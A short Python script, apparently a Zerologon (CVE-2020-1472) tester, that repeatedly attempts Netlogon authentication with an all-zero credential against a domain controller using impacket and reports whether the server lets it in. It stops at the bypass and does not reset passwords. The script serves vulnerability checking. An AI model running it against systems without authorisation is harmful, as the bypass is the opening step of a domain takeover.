#!/usr/bin/python3
"""Tries Netlogon with a credential of zeros: zerologon.py ADDRESS NETBIOS-NAME TIMES. Changes nothing on the server.

What CVE-2020-1472 is recognised by on the wire: NetrServerReqChallenge and NetrServerAuthenticate3 with eight bytes of zeros.
A vulnerable server lets one try in 256 in; the script stops there.
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport

address, name, times = sys.argv[1], sys.argv[2], int(sys.argv[3])
binding = epm.hept_map(address, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
for attempt in range(times):
    client = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    client.connect()
    client.bind(nrpc.MSRPC_UUID_NRPC)
    nrpc.hNetrServerReqChallenge(client, name + "\0", name + "\0", b"\0" * 8)
    try:
        nrpc.hNetrServerAuthenticate3(
            client, name + "\0", name + "$\0", nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
            name + "\0", b"\0" * 8, 0x212FFFFF)
        print("let in at attempt", attempt + 1)
        break
    except nrpc.DCERPCSessionError as refused:
        print(attempt + 1, refused)
    finally:
        client.disconnect()
